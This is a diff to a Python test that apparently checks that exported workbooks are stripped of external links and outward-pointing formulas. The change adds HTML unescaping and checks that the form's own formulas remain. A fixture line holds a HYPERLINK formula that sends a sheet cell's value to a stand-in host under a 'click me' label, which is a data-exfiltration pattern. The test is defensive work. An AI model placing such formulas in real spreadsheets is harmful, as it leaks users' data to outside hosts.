@@ -228,6 +228,7 @@ FORMULA_TEXT = '=HYPERLINK("http://x.invalid/?"&封面!B3,"点我")'
 
 def _formulas(path: Path) -> list[str]:
     """The text of every formula in a workbook's sheets."""
+    import html
     import re
 
     with zipfile.ZipFile(path) as zf:
@@ -235,7 +236,9 @@ def _formulas(path: Path) -> list[str]:
             f
             for name in zf.namelist()
             if name.startswith("xl/worksheets/") and name.endswith(".xml")
-            for f in re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode())
+            for f in map(
+                html.unescape, re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode())
+            )
         ]
 
 
@@ -381,6 +384,10 @@ def test_nothing_active_or_outward_pointing_goes_back_to_a_town(make_return, tmp
     for outside in ("file:", "x.invalid", "内部", "%E5%86%85"):
         assert outside not in package
     assert not [f for f in _formulas(copy) if "[1]" in f or "HYPERLINK" in f]
+    # the form's own formulas stay (its period line holds "|3|6|9|12|": text, not DDE)
+    assert sorted(_formulas(copy)) == sorted(
+        f for f in _formulas(path) if not ("[1]" in f or "HYPERLINK" in f or "外部数" in f)
+    )
     wb = load_workbook(copy)
     assert "外部数" not in wb.defined_names and "两倍" not in wb.defined_names
     assert "EDU_COLLEGE_FUNDED" in wb.defined_names  # the form's own names stay
